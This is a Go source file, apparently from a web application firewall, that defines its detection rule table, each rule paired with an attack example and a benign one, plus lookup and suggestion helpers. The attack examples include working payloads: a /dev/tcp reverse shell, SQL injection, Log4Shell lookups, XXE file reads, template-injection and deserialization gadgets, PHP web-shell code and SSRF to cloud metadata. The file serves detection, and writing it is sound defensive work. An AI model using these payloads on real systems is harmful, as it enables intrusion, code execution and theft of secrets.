package detect

import (
	"slices"
	"sort"
	"strings"
)

// Rule describes one rule id a signal can carry. The table below is the one
// place rule ids are defined: the policy validates detection.rules against
// it (an unknown id is an error with a suggestion), its JSON schema's enum,
// the docs table (RULES.md) and the detection report's labels are derived
// from it, and tests fail when any of them, or the detectors, drift from it.
type Rule struct {
	ID       string
	Class    Class
	Paranoia int    // lowest paranoia level at which the rule fires
	Score    int    // the score it reports on its strongest reading (1–10)
	Meaning  string // what a signal with this id says about the value
	Attack   Example
	Benign   Example // a value of the same shape the rule lets through
}

// Example is one value in one place of a request, for the docs and the
// table's own tests.
type Example struct {
	Part string // "query", "body", "header", "cookie" or "path"
	Key  string
	Text string
}

func ex(part, key, text string) Example { return Example{part, key, text} }

// Rules is every rule id, grouped by class. Decoder anomalies (decode-*)
// are added by the firewall from decode.Issue kinds.
var Rules = []Rule{
	// SQL injection
	{"sqli-libinjection", SQLi, 1, 8, "libinjection fingerprints the value as a SQL injection", ex("query", "id", "1' OR '1'='1' --"), ex("query", "name", "O'Brien")},
	{"sqli-lexer", SQLi, 1, 7, "lambdawaf's SQL lexer reads a condition or statement that escapes its literal", ex("query", "id", "1 or true"), ex("body", "comment", "We sell 1 or 2 units a day")},
	{"sqli-catalog", SQLi, 1, 8, "names a system catalog (information_schema, pg_catalog, sysobjects) in SQL", ex("query", "id", "1 union select table_name from information_schema.tables"), ex("body", "comment", "see the information schema docs")},
	{"sqli-breakout", SQLi, 1, 8, "a quote closes the literal and SQL operators or a comment follow", ex("body", "var", "x'|email--"), ex("body", "name", "Rock 'n' roll")},
	{"sqli-stacked", SQLi, 1, 8, "a second statement after ';' (stacked query)", ex("body", "pay", ";update users"), ex("body", "comment", "Please update the shipping address; delete the old one")},
	{"sqli-comment-keyword", SQLi, 1, 8, "SQL keywords split by inline comments (UN/**/ION)", ex("query", "id", "1 UN/**/ION SEL/**/ECT 1,2"), ex("body", "comment", "/* TODO */ select a plan")},
	{"sqli-procedure", SQLi, 1, 8, "a dangerous stored procedure or package (xp_cmdshell, utl_inaddr, pg_sleep, WAITFOR DELAY)", ex("body", "q", "x utl_inaddr.get_host_name"), ex("body", "comment", "the procedure runs nightly")},
	{"sqli-magic-number", SQLi, 1, 7, "a number that breaks number parsers (2.2250738585072011e-308) or probes integer limits (paranoia 2)", ex("query", "x", "2.2250738585072011e-308"), ex("query", "x", "3.14159")},
	{"sqli-fragment", SQLi, 2, 5, "a SQL condition fragment without a breakout (paranoia 2)", ex("body", "note", "5 < 10 and x<y"), ex("query", "q", "or else")},
	// Cross-site scripting
	{"xss-libinjection", XSS, 1, 8, "libinjection reads an HTML context that runs script", ex("query", "q", "<img src=x onerror=alert(1)>"), ex("body", "bio", "<b>bold</b> and <i>italic</i>")},
	{"xss-script-url", XSS, 1, 8, "a javascript:/vbscript: URL, also behind entities and whitespace", ex("query", "next", "javascript:alert(document.cookie)"), ex("query", "next", "/account/settings")},
	{"xss-tag", XSS, 1, 8, "a script-capable element libinjection does not read (fullwidth ＜script＞, <noscript#, namespaced tags), or a value opening with a raw-text end tag (</script>, '</textarea>)", ex("body", "comment", "＜script＞alert(1)＜/script＞"), ex("body", "comment", "use the <details> element")},
	{"xss-js-sink", XSS, 1, 7, "a DOM sink or script call reached from a string breakout (\";alert(1)//)", ex("query", "q", "\";alert(document.domain)//"), ex("body", "comment", "call alert() only in tests")},
	{"xss-event-handler", XSS, 1, 6, "an on* event handler opening an unquoted attribute value", ex("query", "q", "  onbeforetoggle= "), ex("body", "comment", "the onmouseover handler is slow")},
	{"xss-encoded-bracket", XSS, 1, 5, "the whole value is '<' or '>' spelt as a filter probe spells it (&#x0003c, &#060;, \\x3c)", ex("query", "q", "&#x0003c"), ex("body", "comment", "&lt;")},
	{"xss-comment-close", XSS, 2, 5, "the end of an HTML comment (paranoia 2)", ex("query", "x", "-->"), ex("body", "comment", "A -> B")},
	{"xss-js-escape", XSS, 2, 5, "JavaScript escapes spelling an identifier after a breakout (paranoia 2)", ex("query", "var", `"in \u0076\u0061l\u0075e\u004F\u0066=`), ex("body", "comment", `the path C:\users\me`)},
	{"xss-breakout-assign", XSS, 2, 5, "a quote breakout into an assignment (paranoia 2)", ex("query", "var", "'  infoo.bar="), ex("body", "comment", "it's a=b; not c")},
	// Paths
	{"path-traversal", PathTraversal, 1, 9, "dot-dot segments that climb out of a directory, in any encoding", ex("query", "file", "../../../../etc/passwd"), ex("query", "file", "reports/2024/q1.pdf")},
	{"lfi-sensitive-file", PathTraversal, 1, 8, "names a sensitive file (/etc/shadow, /proc/self/environ, win.ini)", ex("query", "path", "/proc/self/environ"), ex("query", "path", "/var/log/myapp")},
	{"lfi-file-url", PathTraversal, 1, 9, "a file:// URL to a local file", ex("query", "doc", "file:///etc/passwd"), ex("query", "doc", "manual.pdf")},
	{"null-byte", PathTraversal, 1, 6, "a NUL byte that truncates a file name", ex("query", "file", "report.pdf\x00.php"), ex("query", "file", "report.pdf")},
	// Remote file inclusion
	{"rfi-include-param", RFI, 1, 8, "a remote URL or a UNC path (\\\\host\\share) where a file name is expected; a UNC path also where a URL or a command is", ex("query", "page", "http://evil.example/shell.txt"), ex("query", "page", "about")},
	{"rfi-trailing-question", RFI, 1, 7, "a URL to a file ending in '?', cutting off an appended extension", ex("query", "x", "http://evil.example/shell.txt?"), ex("body", "avatar_url", "http://alambic.github.com/avatars/u/5346?")},
	{"rfi-ip-url", RFI, 1, 5, "a URL with an IP-literal host as a parameter", ex("query", "x", "http://203.0.113.9/x.txt"), ex("query", "x", "https://example.com/x.txt")},
	{"rfi-wrapper", RFI, 1, 8, "a PHP stream wrapper (php://filter, expect://, phar://)", ex("query", "f", "php://filter/convert.base64-encode/resource=index.php"), ex("query", "f", "index.php")},
	{"rfi-data-uri", RFI, 1, 7, "a data: URI carrying code", ex("query", "f", "data:text/plain,<?php system('id');?>"), ex("query", "img", "logo.png")},
	{"rfi-path-url", RFI, 2, 5, "a URL as a segment of the request path, for fetchers that take their target from it (paranoia 2)", ex("path", "", "/get/http://evil.example/x"), ex("path", "", "/docs/readme")},
	{"rfi-url-confusion", RFI, 2, 5, "a URL with an '@' in its path, read as userinfo by lenient parsers (paranoia 2)", ex("query", "x", "http://example.com/@evil.example/"), ex("query", "x", "https://example.com/users/alice")},
	// Command injection
	{"cmdi-separator", CommandInj, 1, 8, "a shell separator (; | && newline) followed by a command", ex("query", "host", "8.8.8.8; cat /etc/passwd"), ex("body", "comment", "Tom & Jerry; cats | dogs")},
	{"cmdi-command", CommandInj, 1, 7, "a command with its arguments where a command starts", ex("query", "foo", "time curl coreruleset.org"), ex("body", "comment", "I run id checks")},
	{"cmdi-shell", CommandInj, 1, 9, "a shell, interpreter or download piped to one (bash -i, curl | sh, nc -e)", ex("query", "cmd", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ex("body", "comment", "I use bash at work")},
	{"cmdi-ifs", CommandInj, 1, 8, "$IFS or ${IFS} used as a blank", ex("query", "host", "cat${IFS}/etc/passwd"), ex("body", "comment", "the IFS variable")},
	{"cmdi-batch", CommandInj, 1, 7, "Windows cmd syntax (IF EXIST, FOR /F, cmd /c)", ex("query", "x", `if exist c:\windows\win.ini echo x`), ex("body", "comment", "if it exists, echo it")},
	{"cmdi-option-injection", CommandInj, 1, 7, "an option (-x, --name) where a host name or address is expected, which the tool it is passed to reads as its own (-oProxyCommand=..., --help)", ex("query", "host", "-oProxyCommand=id"), ex("query", "host", "db-1.example.com")},
	{"cmdi-expansion", CommandInj, 1, 7, "shell expansion syntax ($[...], ~+, history events)", ex("query", "x", "$[1+1]"), ex("body", "price", "costs $5 (tax incl.)")},
	{"cmdi-glob", CommandInj, 1, 8, "a command written with globs (/???/c?t)", ex("query", "host", "/???/c?t /???/p??s??"), ex("body", "comment", "what? why?")},
	{"cmdi-alias", CommandInj, 1, 6, "a shell alias definition", ex("query", "x", "alias ls=rm"), ex("body", "comment", "an alias for the product")},
	{"cmdi-shellshock", CommandInj, 1, 9, "a Shellshock function definition () { :; };", ex("header", "user-agent", "() { :; }; echo vulnerable"), ex("body", "comment", "() => {}")},
	{"cmdi-fork-bomb", CommandInj, 1, 8, "a self-calling shell function (fork bomb)", ex("query", "x", ":(){ :|:& };:"), ex("body", "comment", ":) :|")},
	{"cmdi-evasion", CommandInj, 1, 8, "a command name split by quotes, backslashes or empty expansions (c''at, w\\ho)", ex("query", "host", "127.0.0.1; c''at /etc/passwd"), ex("body", "name", "O''Neil")},
	{"cmdi-variable", CommandInj, 1, 8, "a command run through a variable assigned in the same input", ex("query", "host", "a=id;$a"), ex("body", "comment", "a=1; b=2")},
	{"cmdi-sqlite-shell", CommandInj, 1, 8, "a SQLite shell dot command (.shell, .system)", ex("query", "s", "1;.sh whoami"), ex("body", "comment", "see the .shell docs")},
	{"cmdi-mail-command", CommandInj, 1, 7, "an SMTP command injected after a CRLF", ex("query", "to", "x\r\nRCPT TO:<postmaster>"), ex("body", "comment", "send it to the postmaster")},
	{"cmdi-cache-command", CommandInj, 1, 7, "a Redis or memcached command smuggled after a line break (RESP framing, flushall, config set, slaveof, set k 0 0 5)", ex("query", "key", "k\r\nconfig set dir /var/www/html\r\n"), ex("body", "comment", "Run\r\nFLUSHALL\r\nto clear the cache")},
	{"cmdi-command-word", CommandInj, 2, 6, "a lone command word where a command could start (paranoia 2)", ex("query", "host", "whoami"), ex("query", "host", "example.com")},
	// SSRF
	{"ssrf-metadata", SSRF, 1, 9, "a cloud metadata address (169.254.169.254, metadata.google.internal)", ex("query", "url", "http://169.254.169.254/latest/meta-data/"), ex("query", "url", "https://example.com/meta-data/")},
	{"ssrf-ip-obfuscation", SSRF, 1, 8, "an internal address written in a disguise (decimal, octal, IPv6-mapped)", ex("query", "url", "http://2130706433/"), ex("query", "url", "http://example.com:8080/")},
	{"ssrf-internal", SSRF, 1, 7, "a loopback or private address in a URL parameter", ex("query", "url", "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next"), ex("query", "url", "https://api.example.com/")},
	{"ssrf-scheme", SSRF, 1, 7, "a URL scheme that reaches other protocols (gopher://, dict://)", ex("query", "url", "gopher://127.0.0.1:6379/_FLUSHALL"), ex("query", "url", "https://example.com/")},
	{"ssrf-file-scheme", SSRF, 1, 8, "a file: URL in a URL parameter", ex("query", "url", "file:///etc/passwd"), ex("query", "url", "https://example.com/file")},
	{"ssrf-parser-confusion", SSRF, 1, 8, "a URL whose userinfo or backslashes make parsers disagree about the host", ex("query", "url", "http://example.com#@127.0.0.1/"), ex("query", "url", "https://user@example.com/")},
	// JNDI
	{"jndi-lookup", JNDI, 1, 10, "a ${jndi:...} lookup (Log4Shell)", ex("header", "user-agent", "${jndi:ldap://203.0.113.9/a}"), ex("body", "comment", "JNDI is a Java API")},
	{"jndi-lookup-obfuscated", JNDI, 1, 10, "a JNDI lookup spelled with nested lookups (${${lower:j}ndi:...})", ex("header", "user-agent", "${${lower:j}${lower:n}di:ldap://x/a}"), ex("body", "comment", "${name} and ${lower}")},
	{"log4j-lookup", JNDI, 1, 7, "another Log4j lookup that leaks data (${env:...}, ${sys:...})", ex("header", "x-api-version", "${env:AWS_SECRET_ACCESS_KEY}"), ex("body", "template", "Hello ${name}")},
	// XML
	{"xxe-external-entity", XXE, 1, 9, "an external entity (SYSTEM/PUBLIC) in a DOCTYPE", ex("body", "xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"), ex("body", "xml", "<a>text</a>")},
	{"xxe-parameter-entity", XXE, 1, 9, "a parameter entity (%x;) in a DOCTYPE", ex("body", "xml", "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>"), ex("body", "comment", "100% sure")},
	{"xxe-external-dtd", XXE, 1, 8, "a DOCTYPE loading an external DTD", ex("body", "xml", "<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>"), ex("body", "xml", "<!DOCTYPE html><p>hi</p>")},
	{"xml-entity-expansion", XXE, 1, 8, "nested entities that expand exponentially (billion laughs)", ex("body", "xml", "<!DOCTYPE l [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><l>&c;</l>"), ex("body", "xml", "<l>&amp;&lt;</l>")},
	{"xml-entity-declaration", XXE, 1, 6, "an internal entity declaration in input", ex("body", "xml", "<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>"), ex("body", "xml", "<a>&amp;</a>")},
	{"xinclude", XXE, 1, 8, "an XInclude element", ex("body", "xml", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></x>"), ex("body", "xml", "<include>yes</include>")},
	{"xml-cdata", XXE, 1, 6, "a CDATA section in a value, which carries markup past the escaping of the XML document the value is put into", ex("query", "name", "<![CDATA[<test></test>]]>"), ex("body", "comment", "wrap it in a CDATA section")},
	{"xslt-injection", XXE, 1, 7, "an XSLT stylesheet calling out (document(), system-property(), scripts)", ex("body", "xsl", "<xsl:value-of select=\"system-property('xsl:vendor')\"/>"), ex("body", "comment", "XSLT is a language")},
	// Templates
	{"ssti-expression", SSTI, 1, 8, "a template expression that reaches objects or code ({{7*7}}, ${T(...)}, #{...})", ex("query", "name", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"), ex("body", "comment", "{{ name }} is a placeholder")},
	{"ssti-directive", SSTI, 1, 8, "a template directive that runs code (<#assign ...?new()>, #set, <%= %>)", ex("query", "name", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"), ex("body", "comment", "use #set sparingly")},
	{"ssti-conditional", SSTI, 1, 7, "a template conditional on a constant, probing the engine ({% if True %})", ex("query", "x", "{% if True %}49{% endif %}"), ex("body", "comment", "if true, yes")},
	// NoSQL, LDAP
	{"nosql-operator", NoSQLi, 1, 8, "a MongoDB operator in a key or bracketed parameter (user[$ne]=, {\"$gt\": \"\"})", ex("query", "user[$ne]", "x"), ex("query", "user", "x")},
	{"nosql-js", NoSQLi, 1, 7, "a quote breakout into JavaScript for a $where clause", ex("body", "x", "' || this.password.match(/.*/) || '"), ex("body", "where", "Paris")},
	{"ldap-filter", LDAPi, 1, 8, "an LDAP filter breakout (*)(uid=*))(|(uid=*)", ex("query", "user", "*)(uid=*))(|(uid=*"), ex("query", "user", "alice (admin)")},
	// Scanners
	{"scanner-user-agent", Scanner, 1, 8, "the User-Agent of an attack tool", ex("header", "user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), ex("header", "user-agent", "Mozilla/5.0 (X11; Linux x86_64)")},
	{"scanner-probe", Scanner, 1, 6, "a path scanners probe for (/.git/, /wp-login.php, /phpmyadmin)", ex("path", "", "/phpmyadmin/index.php"), ex("path", "", "/api/v1/items")},
	{"oast-domain", Scanner, 1, 7, "an out-of-band testing domain (interactsh, burpcollaborator)", ex("query", "url", "http://abc123.oast.fun"), ex("query", "url", "https://fun.example.com")},
	// Code injection and deserialization
	{"php-open-tag", CodeInj, 1, 9, "a PHP open tag with code", ex("body", "comment", "<?php system($_GET['c']); ?>"), ex("body", "comment", "<?xml version=\"1.0\"?>")},
	{"php-function-call", CodeInj, 1, 8, "a call of a dangerous PHP function (system, passthru, assert)", ex("query", "x", "system('id');"), ex("body", "comment", "chown(1), mknod(1)")},
	{"php-variable-call", CodeInj, 1, 6, "a call through a variable function name ($f(...))", ex("query", "x", "$func('id')"), ex("body", "price", "$5 ($10 with tax)")},
	{"php-superglobal", CodeInj, 1, 7, "a PHP superglobal in input ($_SERVER, $_GET[...])", ex("query", "x", "${$_SERVER['HTTP_X']}"), ex("body", "comment", "the SERVER variable")},
	{"php-serialized-object", CodeInj, 1, 8, "a serialized PHP object (O:8:\"stdClass\":...)", ex("cookie", "session", "O:8:\"Exploit1\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"), ex("cookie", "session", "a1b2c3d4")},
	{"php-ini-directive", CodeInj, 1, 7, "a php.ini directive set from input (auto_prepend_file=, allow_url_include)", ex("body", "x", "allow_url_include=1"), ex("body", "x", "prepend the file")},
	{"php-function-name", CodeInj, 2, 5, "a call of a PHP extension function (paranoia 2)", ex("query", "k", "tidy_parse_string()"), ex("query", "x", "array map")},
	{"java-class", CodeInj, 1, 8, "a Java gadget class or Runtime.exec reached from input", ex("body", "x", "java.lang.Runtime.getRuntime().exec(\"id\")"), ex("body", "comment", "Java runtime errors")},
	{"java-class-name", CodeInj, 1, 5, "a fully qualified Java class name of a JNDI or reflection entry point", ex("body", "x", "javax.naming.InitialContext"), ex("body", "comment", "org.example.app")},
	{"java-serialized-object", CodeInj, 1, 9, "a serialized Java object (aced0005, rO0AB)", ex("cookie", "session", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I="), ex("cookie", "session", "r00ab-session")},
	{"python-pickle", CodeInj, 1, 8, "a Python pickle, which calls what it names when loaded (base64 gASV..., cos\\nsystem\\n...tR.)", ex("cookie", "session", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="), ex("cookie", "session", "gAs-token-1")},
	{"dotnet-serialized-object", CodeInj, 1, 8, "a .NET BinaryFormatter stream (AAEAAAD/////...)", ex("body", "state", "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I="), ex("body", "state", "/wEPDwUKLTM4MjA5NjM3NWRkbQ")},
	{"ruby-marshal-object", CodeInj, 1, 8, "a base64 Ruby Marshal stream that builds a gadget class (Gem::Installer, ERB, Net::WriteAdapter)", ex("cookie", "session", "BAhvOhVHZW06Okluc3RhbGxlcgY6CUBpSSIGeAY6BkVU"), ex("cookie", "_app_session", "BAh7BkkiD3Nlc3Npb25faWQGOgZFVEkiJWYzZTZiYzZiMDQ3MmY4YjMGOwBU")},
	{"node-injection", CodeInj, 1, 8, "Node.js code that reaches the process (process.mainModule, child_process)", ex("body", "x", "process.mainModule.require('child_process').execSync('id')"), ex("body", "comment", "the child process exited")},
	{"node-dos", CodeInj, 1, 6, "Node.js code that blocks the event loop (while(true), process.exit)", ex("body", "x", "while(true){}"), ex("body", "comment", "while true, keep going")},
	{"prototype-pollution", CodeInj, 1, 8, "a __proto__ or constructor.prototype key", ex("query", "__proto__[admin]", "true"), ex("query", "proto", "true")},
	{"perl-interpolation", CodeInj, 1, 7, "Perl code interpolated into a string (@{[ system 'id' ]})", ex("query", "x", "@{[system 'id']}"), ex("body", "email", "a@example.com")},
	{"ssi-directive", CodeInj, 1, 8, "a server-side include directive (<!--#exec, <!--#include, <!--#echo) or an Edge Side Include element (<esi:include>)", ex("body", "comment", "<!--#exec cmd=\"id\" -->"), ex("body", "comment", "<!-- TODO: fix #42 -->")},
	{"code-injection", CodeInj, 1, 8, "Python, Ruby or generic code that runs commands (__import__('os'), eval(...)), or a call spliced into evaluated code after a breakout (;exit(md5('x'));#)", ex("query", "x", "__import__('os').system('id')"), ex("body", "comment", "import os in your script")},
	{"script-upload", CodeInj, 1, 7, "an upload file name with a server-side script extension", ex("header", "x-filename", "shell.php"), ex("header", "x-filename", "photo.jpg")},
	// Session fixation
	{"cookie-set", SessionFixation, 1, 8, "markup or script that sets a cookie (document.cookie=, <meta http-equiv=set-cookie>)", ex("query", "q", "<meta http-equiv=\"Set-Cookie\" content=\"sessionid=abc\">"), ex("body", "comment", "cookies are set at login")},
	{"session-id-param", SessionFixation, 1, 5, "a session id in a link from another site", ex("query", "jsessionid", "ABC123DEF456"), ex("query", "session", "morning")},
	// XPath
	{"xpath-injection", XPathi, 1, 8, "XPath grammar: an axis step (child::node()), a quote then OR/AND and a node function (' or name()='x), or a closed predicate starting a new path ('] | //*)", ex("query", "user", "' or name()='admin' or 'a'='b"), ex("body", "comment", "the child: a node of the tree")},
	// Header injection
	{"crlf-header-injection", HeaderInj, 1, 7, "a line break after a one-token value, then a header (Bcc:, Set-Cookie:, Location:) or a whole response", ex("query", "email", "a@b.example\r\nBcc: x@evil.example"), ex("body", "comment", "Dear team,\nTo: all staff, the meeting moved.")},
	// Protocol
	{"value-too-long", Protocol, 1, 3, "a value longer than the engine judges whole", ex("body", "x", ""), ex("body", "x", "short")},
}

// DecoderRules are the signals the firewall adds for the decoder's
// findings, one per decode.IssueKind: "limit-<kind>" (class "limit",
// policy.ClassLimit) for a bound that left input uninspected, which the
// policy decides on by its failure policy, and "decode-<kind>" (class
// protocol) for a malformed encoding. They carry no examples here (they
// are about a request's encoding, not a value); a test checks the list
// against decode's kinds.
var DecoderRules = []Rule{
	{ID: "limit-body-limit", Class: limitClass, Paranoia: 1, Score: 10, Meaning: "a body larger than the decoder reads: the rest was not inspected"},
	{ID: "limit-byte-limit", Class: limitClass, Paranoia: 1, Score: 10, Meaning: "more decoded bytes than the decoder yields: the rest was not inspected"},
	{ID: "limit-decompression-bomb", Class: limitClass, Paranoia: 1, Score: 10, Meaning: "a compressed body that expands past the limit"},
	{ID: "limit-depth-limit", Class: limitClass, Paranoia: 1, Score: 10, Meaning: "nesting deeper than the decoder follows: the rest was not inspected"},
	{ID: "limit-value-limit", Class: limitClass, Paranoia: 1, Score: 10, Meaning: "more values than the decoder yields: the rest were not inspected"},
	{ID: "limit-header-limit", Class: limitClass, Paranoia: 1, Score: 10, Meaning: "more or larger headers than the decoder reads"},
	{ID: "limit-record-limit", Class: limitClass, Paranoia: 1, Score: 10, Meaning: "more batch records than the decoder inspects"},
	{ID: "limit-layer-limit", Class: limitClass, Paranoia: 1, Score: 10, Meaning: "more nested encodings (URL, base64, JSON in JSON) than the decoder undoes"},
	{ID: "limit-time-budget", Class: limitClass, Paranoia: 1, Score: 10, Meaning: "decoding took longer than its time budget"},
	{ID: "decode-malformed-json", Class: Protocol, Paranoia: 1, Score: 3, Meaning: "a body declared JSON that does not parse"},
	{ID: "decode-malformed-xml", Class: Protocol, Paranoia: 1, Score: 3, Meaning: "a body declared XML that does not parse"},
	{ID: "decode-malformed-multipart", Class: Protocol, Paranoia: 1, Score: 3, Meaning: "a multipart body that does not parse"},
	{ID: "decode-malformed-compression", Class: Protocol, Paranoia: 1, Score: 3, Meaning: "a compressed body that does not decompress"},
	{ID: "decode-invalid-url-encoding", Class: Protocol, Paranoia: 1, Score: 3, Meaning: "a percent sign not followed by two hex digits"},
	{ID: "decode-unsupported-content-encoding", Class: Protocol, Paranoia: 1, Score: 3, Meaning: "a Content-Encoding the decoder cannot undo"},
	{ID: "decode-trailing-data", Class: Protocol, Paranoia: 1, Score: 3, Meaning: "bytes after a compressed stream (judged as text)"},
}

// limitClass is policy.ClassLimit, which this package cannot import.
const limitClass Class = "limit"

var ruleIndex = func() map[string]*Rule {
	m := make(map[string]*Rule, len(Rules)+len(DecoderRules))
	for i := range Rules {
		m[Rules[i].ID] = &Rules[i]
	}
	for i := range DecoderRules {
		m[DecoderRules[i].ID] = &DecoderRules[i]
	}
	return m
}()

// LookupRule returns the rule with the given id.
func LookupRule(id string) (Rule, bool) {
	r, ok := ruleIndex[id]
	if !ok {
		return Rule{}, false
	}
	return *r, true
}

// RuleIDs returns every rule id, the decoder's included, sorted.
func RuleIDs() []string {
	ids := make([]string, 0, len(ruleIndex))
	for id := range ruleIndex {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	return ids
}

// SignalClasses returns the classes the rule table's rules carry, in the
// order of Classes: every class a signal can have, the schema's
// signalClass enum and the values detection.classes accepts. The limit
// rules' class belongs to policy, not to the detectors.
func SignalClasses() []Class {
	carried := map[Class]bool{}
	for _, r := range Rules {
		carried[r.Class] = true
	}
	for _, r := range DecoderRules {
		carried[r.Class] = true
	}
	out := make([]Class, 0, len(Classes))
	for _, c := range Classes {
		if carried[c] {
			out = append(out, c)
		}
	}
	return out
}

// SuggestRule returns the known rule id closest to a misspelt one, or ""
// when none is close enough to be what was meant (an edit distance of at
// most a third of the id's length).
func SuggestRule(id string) string { return Suggest(id, RuleIDs()) }

// Suggest returns the word of known closest to a misspelt one, or "" when
// none is close enough to be what was meant (an edit distance of at most a
// third of its length, or the same dash-separated words in another order).
// Policy validation uses it for every closed vocabulary.
func Suggest(id string, known []string) string {
	low := strings.ToLower(id)
	best, bestD := "", len(id)/3+1
	for _, known := range known {
		if sameWords(low, known) {
			return known // libinjection-sqli for sqli-libinjection
		}
		if d := editDistance(low, known); d < bestD {
			best, bestD = known, d
		}
	}
	return best
}

// sameWords reports whether two ids have the same dash-separated words in
// another order.
func sameWords(a, b string) bool {
	wa, wb := strings.Split(a, "-"), strings.Split(b, "-")
	if len(wa) != len(wb) || len(wa) < 2 {
		return false
	}
	sort.Strings(wa)
	sort.Strings(wb)
	return slices.Equal(wa, wb)
}

// editDistance is the Levenshtein distance between a and b, in bytes.
func editDistance(a, b string) int {
	prev := make([]int, len(b)+1)
	cur := make([]int, len(b)+1)
	for j := range prev {
		prev[j] = j
	}
	for i := 1; i <= len(a); i++ {
		cur[0] = i
		for j := 1; j <= len(b); j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			cur[j] = min(prev[j]+1, cur[j-1]+1, prev[j-1]+cost)
		}
		prev, cur = cur, prev
	}
	return prev[len(b)]
}
